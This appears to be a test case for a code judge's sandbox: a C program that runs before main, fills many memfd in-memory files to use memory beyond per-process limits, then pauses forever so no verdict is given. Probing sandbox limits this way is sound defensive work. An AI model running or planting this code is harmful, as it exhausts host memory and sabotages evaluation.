// ---
// tries: Fills files in memory, which no limit of a process counts.
// place: before
// deserves: nothing
// gain: no verdict, so that the attempt may not count
// helps: memory-limit
// ---
#include <sys/mman.h>

__attribute__((constructor)) static void attack(void) {
  static char block[4 << 20];
  memset(block, 1, sizeof block);
  for (;;) {
    int file = memfd_create("attack", 0);
    if (file < 0) break;
    // Each stays below the limit of one file.
    for (int i = 0; i < 12 && write(file, block, sizeof block) > 0; i++) continue;
  }
  for (;;) pause();
}
